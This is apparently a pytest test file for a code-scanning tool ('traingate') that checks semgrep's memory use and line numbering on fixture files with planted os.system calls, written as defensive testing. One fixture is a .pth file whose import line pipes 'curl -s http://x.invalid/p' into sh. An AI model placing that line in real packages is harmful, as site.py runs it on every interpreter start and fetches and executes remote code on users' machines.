"""The semgrep check's memory on a whole-repository scan (issue #17) and the
line numbering of the texts it builds (issue #16). Real git, real semgrep.

- A scan keeps no target's text in memory while semgrep runs: the texts wait
  on disk, and a match's code is read from the file semgrep scanned.
- A scan runs the semgrep check first and alone, then the Python checks, so
  the semgrep processes never sit beside the Python checks' peak; a failure
  on either side still blocks without losing the other side's findings.
- semgrep's per-file memory limit, when hit, is a blocking
  ``semgrep-incomplete`` finding naming the file, never a silent pass.
- A ``.pth`` file is read as site.py reads it (lines end at \\n, \\r\\n, \\r)
  and a PEP 263 file's lines are mapped as semgrep numbers them (\\n), not
  as str.splitlines splits.
"""

from __future__ import annotations

import gc
import json
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from traingate import engine
from traingate.checks.semgrep import runner
from traingate.checks.semgrep.targets import Target
from traingate.cli import main

from .conftest import POLICY, Repo

pytestmark = pytest.mark.slow  # semgrep runs in every test

# Payloads in line-end shapes a text reader must not renumber or alter: CRLF,
# a form feed (no line end to semgrep or CPython), a byte that is not UTF-8.
FILES: dict[str, bytes] = {
    "train/crlf.py": b"import os\r\n\r\n\r\ndef go(cmd):\r\n    os.system(cmd)\r\n",
    "train/latin.py": b"import os\nx = 'caf\xe9'\nos.system(x)\n",
    "train/ff.py": b"import os\n\x0c\nx = 1\nos.system(x)\n",
    "train/helper.py": b"import os\n\n\ndef run(c):\n    return os.popen(c).read()\n",
}


def _scan(repo: Repo, capsys: pytest.CaptureFixture[str], *paths: str) -> tuple[int, Any]:
    code = main(["scan", *paths, "--format", "json", "--cache-dir", str(repo.path.parent / "c")])
    return code, json.loads(capsys.readouterr().out)


def _where(doc: Any, check: str = "semgrep") -> list[tuple[str, str, int, str]]:
    return sorted(
        (f["rule_id"], f["path"], f["line"], f.get("source_line") or "")
        for f in doc["findings"]
        if f["check"] == check
    )


@pytest.fixture
def scanned(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> Repo:
    repo.write(".traingate.yaml", POLICY)
    for path, data in FILES.items():
        repo.write(path, data)
    repo.commit("code")
    monkeypatch.chdir(repo.path)
    return repo


def test_scan_holds_no_target_text_while_semgrep_runs(
    scanned: Repo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every text of a scan (72 MB on the wheel corpus) was held beside the two
    semgrep processes; now none is, and the findings are the same: exact lines,
    the code shown is the code semgrep matched."""
    held: list[list[str]] = []
    invoke = runner._invoke

    def spying(cmd: list[str], cwd: Path, timeout: int, shown: int | None = None) -> Any:
        held.append([o.path for o in gc.get_objects() if isinstance(o, Target) and o.text])
        return invoke(cmd, cwd, timeout, shown)

    monkeypatch.setattr(runner, "_invoke", spying)
    code, doc = _scan(scanned, capsys, ".")
    assert held and held == [[]] * len(held), held
    assert code == 1, doc["errors"]
    found = {(r, p, ln) for r, p, ln, _ in _where(doc)}
    assert {
        ("exec-os-command", "train/crlf.py", 5),
        ("exec-os-command", "train/latin.py", 3),
        ("exec-os-command", "train/ff.py", 4),
    } <= found, found


def test_scan_runs_semgrep_alone_then_the_other_checks(
    scanned: Repo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    spans: dict[str, tuple[float, float]] = {}
    run_one = engine._run_one
    lock = threading.Lock()

    def timed(check_id: str, ctx: Any) -> Any:
        t0 = time.monotonic()
        out = run_one(check_id, ctx)
        with lock:
            spans[check_id] = (t0, time.monotonic())
        return out

    monkeypatch.setattr(engine, "_run_one", timed)
    code, doc = _scan(scanned, capsys, ".")
    assert code == 1 and not doc["errors"]
    assert len(spans) > 1 and "semgrep" in spans, spans
    end = spans["semgrep"][1]
    assert all(start >= end for c, (start, _) in spans.items() if c != "semgrep"), spans


def test_scan_semgrep_failure_still_blocks_with_the_other_findings(
    scanned: Repo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Run alone first, semgrep's failure must not stop or hide the rest."""
    scanned.write("train/zw.py", "x = 1  # \u200b\n")
    scanned.commit("invisible")
    monkeypatch.setenv("TRAINGATE_SEMGREP", "/bin/false")
    code, doc = _scan(scanned, capsys, ".")
    assert code == 3
    assert any("semgrep" in e for e in doc["errors"]), doc["errors"]
    assert ("unicode-invisible", "train/zw.py", 1) in {
        (f["rule_id"], f["path"], f["line"]) for f in doc["findings"]
    }


# 3,000 lines: with a 1 MB limit semgrep 1.182 ran out on every try; at 300
# lines it did in one run of two (the limit is checked as its heap grows).
BIG = "import os\n\n" + "".join(f"x{i} = os.system('a{i}') + [{i}, 'b']\n" for i in range(3000))
EXPECTED = {
    "train/crlf.py": ("exec-os-command", 5),
    "train/latin.py": ("exec-os-command", 3),
    "train/ff.py": ("exec-os-command", 4),
}


@pytest.mark.parametrize("batched", [False, True], ids=["one-run", "batched"])
def test_semgrep_out_of_memory_blocks_naming_the_file(
    scanned: Repo,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    batched: bool,
) -> None:
    """semgrep's --max-memory (per file) ends in an "Out of memory" error for
    that file and no results for it: that is a blocking finding on the file,
    and no other file passes silently. semgrep 1.182, really run, with the
    limit lowered so that the large file exceeds it."""
    scanned.write("train/big.py", BIG)
    scanned.commit("big")
    monkeypatch.setattr(runner, "MAX_MEMORY_MB", 1)
    monkeypatch.setattr(runner, "SINGLE_RUN_BYTES", 0 if batched else 10_000_000)
    monkeypatch.setenv("TRAINGATE_CACHE_DIR", str(tmp_path / "cold"))
    code = main(["scan", "train", "--format", "json", "--cache-dir", str(tmp_path / "cold")])
    doc = json.loads(capsys.readouterr().out)
    assert code == 1 and not doc["errors"], doc["errors"]
    by_path: dict[str, list[Any]] = {}
    for f in doc["findings"]:
        if f["check"] == "semgrep":
            by_path.setdefault(f["path"], []).append(f)
    big = by_path["train/big.py"]
    assert [(f["rule_id"], f["blocking"]) for f in big] == [("semgrep-incomplete", True)], big
    assert "Out of memory" in big[0]["message"], big[0]["message"]
    # The small files: their finding, or (the limit is tiny) their own block.
    for path, (rule, line) in EXPECTED.items():
        got = {(f["rule_id"], f["line"]) for f in by_path.get(path, [])}
        assert (rule, line) in got or ("semgrep-incomplete", 1) in got, (path, got)


# --- line numbering (issue #16) ------------------------------------------------------

PTH = b"import os\x0c;os.system('curl -s http://x.invalid/p | sh')\n"


def test_pth_line_with_a_form_feed_is_scanned_whole(
    scanned: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    """site.py reads a .pth as a text file (lines end at \\n, \\r\\n, \\r) and
    exec()s a line that starts with "import"; a form feed is blank to Python,
    so the whole line runs. Split by str.splitlines, the payload became a
    second line not starting with "import", and was dropped unscanned."""
    scope: dict[str, object] = {}
    exec(PTH.decode().replace("os.system('curl -s http://x.invalid/p | sh')", "RAN = 1"), scope)
    assert scope.get("RAN") == 1  # the shape runs in this CPython
    scanned.write("site/evil.pth", PTH)
    scanned.commit("pth")
    code, doc = _scan(scanned, capsys, "site")
    assert code == 1
    assert ("exec-os-command", "site/evil.pth", 1) in {(r, p, ln) for r, p, ln, _ in _where(doc)}, (
        _where(doc)
    )


COOKIE_FILE = (
    b"# -*- coding: latin-1 -*-\n"
    b"import os\n"
    b"\x0c\n"  # a form feed: blank to CPython and semgrep, a line end to str.splitlines
    b"caf\xe9 = 1\n"
    b"os.system(caf\xe9)\n"
)


def test_cookie_file_finding_lands_on_its_own_line(
    scanned: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    """A PEP 263 file is scanned as decoded and mapped back to git's lines; the
    map counted a form feed as a line end, so every later finding was shown
    one line early (on `café = 1` here): a reviewer reads the wrong line."""
    scanned.write("train/legacy.py", COOKIE_FILE)
    scanned.commit("legacy")
    code, doc = _scan(scanned, capsys, "train/legacy.py")
    assert code == 1
    got = [(r, p, ln) for r, p, ln, _ in _where(doc) if r == "exec-os-command"]
    assert got == [("exec-os-command", "train/legacy.py", 5)], got
